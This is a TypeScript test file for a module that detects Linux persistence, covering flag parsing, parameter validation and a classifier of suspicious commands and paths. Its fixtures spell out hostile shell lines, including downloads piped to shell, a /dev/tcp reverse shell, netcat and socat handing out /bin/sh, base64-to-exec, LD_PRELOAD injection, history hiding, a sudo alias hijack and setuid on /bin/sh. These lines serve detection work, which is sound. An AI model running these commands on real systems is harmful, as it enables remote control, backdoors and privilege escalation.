import { expect, test } from 'vitest';
import { persistence } from '../../../modules/persistence/index.ts';
import { kinds } from '../../../modules/persistence/kinds.ts';
import { createSuspiciousText } from '../../../modules/persistence/suspicious-text.ts';
import { parseParams } from '../../../src/module/flags.ts';
import { validateParameters } from '../../../src/module/params.ts';

test('flags become parameters, and kinds are completed from their list', () => {
  const words = ['-kind', 'cron', '-kind', 'at', '-path', '^/opt', '-changed', '<7d', '-unpackaged'];
  expect(parseParams(persistence.params, words)).toEqual({
    kinds: ['cron', 'at'],
    paths: ['^/opt'],
    changed: '<7d',
    unpackaged: true,
  });
  expect(persistence.params.fields[0]?.complete).toEqual(kinds);
});

test.each([
  [{ kinds: ['crontab'] }, 'kinds.0: expected one of systemd, timer'],
  [{ names: ['['] }, 'names.0: expected a regular expression'],
  [{ commands: [''] }, 'commands.0'],
  [{ changed: '7d' }, 'changed: expected < (newer) or > (older)'],
  [{ unpackaged: 1 }, 'unpackaged'],
])('%j is refused', (parameters, message) => {
  expect(() => validateParameters(persistence.params, parameters)).toThrow(message);
});

const { inCommand, inPath, inScript } = createSuspiciousText();

test.each([
  ['curl -s http://x/y | sudo bash', ['runs what it downloads']],
  ['bash -c "$(curl -fsSL http://x)"', ['runs what it downloads']],
  ['bash <(wget -qO- http://x)', ['runs what it downloads']],
  ['echo aGk= | base64 -d', ['decodes base64']],
  [
    'python3 -c "import base64,sys;exec(base64.b64decode(x))"',
    ['decodes base64', 'runs a program from its command line'],
  ],
  ['bash -i >& /dev/tcp/192.0.2.1/1 0>&1', ['opens a connection from a shell', 'connects a shell to something else']],
  ['nc 192.0.2.1 4444 -e /bin/sh', ['gives a program to a connection']],
  ['socat tcp:x:1 exec:/bin/sh', ['gives a program to a connection']],
  ['/dev/shm/x', ['names a file in a folder for temporary files']],
  ['LD_PRELOAD=/x.so y', ['loads a library into what it starts']],
  ['unset HISTFILE', ['hides the history of the shell']],
  ["alias sudo='/x'", ['replaces a command that asks for passwords']],
  ['sudo() { x; }', ['replaces a command that asks for passwords']],
  ['chmod u+s /bin/sh', ['makes a program setuid']],
  ['chmod 4755 /bin/sh', ['makes a program setuid']],
  ['A'.repeat(300), ['has a long run of encoded text']],
  ['curl -o /srv/x http://y', []],
  ['run-parts /etc/cron.daily', []],
  ['chmod 0755 /x', []],
  ['sudo -u www-data php /var/www/cron.php', []],
  ['find /var/tmp -delete', []],
  ['sh -c "test -f /x && y"', []],
])('%j: %j', (command, meanings) => {
  expect(inCommand(command)).toEqual(meanings);
});

test('a script tells the first line of each, comments left out', () => {
  expect(inScript('#!/bin/sh\n# base64 -d\nx\nbase64 -d\nbase64 --decode\n')).toEqual(['line 4 decodes base64']);
});

test.each([
  ['/tmp/x', ['is in a folder for temporary files']],
  ['/usr/share/.x/y', ['is hidden']],
  ['/home/alice/.local/bin/x', []],
  ['/usr/bin/x', []],
])('the path %j: %j', (path, meanings) => {
  expect(inPath(path)).toEqual(meanings);
});

test('hostile text takes no time', () => {
  const startedMs = performance.now();
  for (const piece of ['curl ', 'sh -i ', 'python -c ', 'A', '\\x41', 'nc -', 'chmod +', '/tmp/'])
    inScript(piece.repeat(20_000));
  expect(performance.now() - startedMs).toBeLessThan(1000);
});
